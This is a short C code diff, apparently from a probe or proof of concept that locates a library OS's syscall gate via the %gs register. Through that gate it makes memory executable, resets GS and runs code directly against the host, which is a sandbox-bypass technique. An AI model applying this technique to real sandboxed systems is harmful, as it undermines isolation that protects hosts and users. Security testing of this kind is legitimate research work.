@@ -49,7 +49,7 @@ static int other_way(const char *name, volatile unsigned char *gate)
         printf("rights %ld\n", through(gate, 10, (long[6]){(long)code, 4096, 7}));
         fflush(stdout);
         block[0] = (long)code;
-        result = through(gate, 158, (long[6]){0x1001, (long)block});
+        result = through(gate, 158, (long[6]){0x1001, (long)block - 0x10000});
         result = ((long (*)(void))code)();
     }
     printf("the host answered %ld\n", result);
@@ -60,7 +60,7 @@ int main(int argc, char **argv)
 {
     probes_on();
     unsigned char *entry = NULL;
-    if (sigsetjmp(probe_return, 1) == 0) __asm__ volatile("movq %%gs:0, %0" : "=r"(entry));
+    if (sigsetjmp(probe_return, 1) == 0) __asm__ volatile("movq %%gs:0x10000, %0" : "=r"(entry));
     if (!entry) { puts("no library OS here"); return 1; }
     volatile unsigned char *gate = find_gate(entry);
     printf("gate found %d\n", gate != NULL);
